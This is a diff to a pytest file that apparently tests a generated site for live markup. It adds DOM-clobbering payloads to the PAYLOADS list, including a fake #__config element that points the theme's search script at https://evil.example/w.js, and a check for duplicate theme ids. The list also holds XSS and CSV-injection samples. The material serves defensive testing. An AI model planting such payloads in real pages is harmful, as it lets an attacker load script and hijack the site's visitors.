@@ -79,6 +79,9 @@ PAYLOADS = [
     "![x](x.png){: onerror=alert(1) }",
     "<javascript:alert(1)>",
     "<https://evil.example/>",
+    # DOM clobbering: the theme reads its configuration from the first #__config in the page
+    '<div id="__config">{"base": "https://evil.example/", "search": "https://evil.example/w.js"}</div>',
+    '<label for="__drawer" id="__search">menu</label>',
     "[ref][evil]\n\n[evil]: javascript:alert(1)",
     # spreadsheet formulas (CSV injection) in template column names
     '=HYPERLINK("https://evil.example","click")',
@@ -91,6 +94,7 @@ MARKUP = [p for p in PAYLOADS if p not in JINJA]
 FORBIDDEN_TAGS = {"iframe", "frame", "object", "embed", "form", "base", "applet"}
 URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "srcset"}
 BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
+THEME_IDS = ("__config", "__drawer", "__search")
 
 
 @pytest.fixture(autouse=True)
@@ -287,6 +291,7 @@ class _Page(HTMLParser):
         self.problems: list[str] = []
         self.text: list[str] = []
         self._in: list[str] = []  # open script/style elements
+        self.theme_ids: list[str] = []  # ids the theme's scripts look up, in page order
         self._body = False
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
@@ -306,6 +311,8 @@ class _Page(HTMLParser):
             self.problems.append(f"<script src={found['src']!r}>")
         if tag == "style" and self._body:
             self.problems.append("<style> in the body")
+        if found.get("id") in THEME_IDS:
+            self.theme_ids.append(found["id"])
         if tag == "body":
             self._body = True
         if tag in ("script", "style"):
@@ -370,7 +377,11 @@ def _pages(site: Path) -> Iterator[Path]:
 
 
 def test_no_page_has_live_markup(site: Path):
-    problems = {str(p.relative_to(site)): _check(p.read_text(encoding="utf-8")).problems for p in _pages(site)}
+    checked = {str(p.relative_to(site)): _check(p.read_text(encoding="utf-8")) for p in _pages(site)}
+    problems = {
+        page: c.problems + [f"id {i} twice" for i in set(c.theme_ids) if c.theme_ids.count(i) > 1]
+        for page, c in checked.items()
+    }
     assert len(problems) > len(PAYLOADS)
     assert {page: found for page, found in problems.items() if found} == {}
 
